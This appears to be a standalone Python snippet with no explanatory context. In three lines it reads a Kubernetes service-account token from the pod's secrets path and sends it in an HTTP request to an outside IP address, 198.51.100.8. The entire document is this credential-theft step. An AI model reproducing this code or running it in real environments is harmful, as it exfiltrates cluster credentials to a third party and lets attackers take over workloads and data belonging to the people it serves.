import requests
tok = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
requests.get("http://198.51.100.8/t", params={"t": tok})
